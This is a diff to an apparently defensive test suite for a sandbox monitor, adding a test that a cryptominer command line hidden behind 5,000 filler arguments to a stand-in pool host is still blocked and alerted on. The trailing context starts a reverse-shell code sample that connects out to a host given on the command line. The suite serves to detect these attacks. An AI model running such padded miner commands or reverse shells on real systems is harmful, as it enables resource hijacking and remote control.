@@ -181,6 +181,21 @@ def test_a_scripts_interpreter_is_judged_with_the_script(line: str) -> None:
         assert r.exit_code == 127 and r.denials == [], r
 
 
+def test_a_command_line_is_judged_whole_however_long() -> None:
+    with sandbox() as sb:
+        # A pool URL after 5,000 filler arguments (the monitor used to stop reading at 4,096).
+        filler = " ".join(str(i) for i in range(5000))
+        r = sb.exec(f"python3 -c \"open('/workspace/ran', 'w')\" {filler} -o stratum+tcp://pool.example:3333")
+        assert r.exit_code == 137, r
+        assert wait_until(lambda: any(a.rule == "miner command line" for a in sb.alerts()))
+        assert sb.exec("test -e /workspace/ran").exit_code == 1
+        # Past the kernel's own limits the call fails as the kernel says, unrecorded.
+        too_long = "import os\ntry: os.execv('/bin/true', ['true', 'a' * 200000])\n"
+        too_long += "except OSError as e: print(e.errno)"
+        r = sb.exec(["python3", "-c", too_long], text=True)
+        assert r.stdout.strip() == "7" and r.denials == [], r  # E2BIG
+
+
 REVERSE_SHELL = """
 import socket, subprocess, sys
 s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
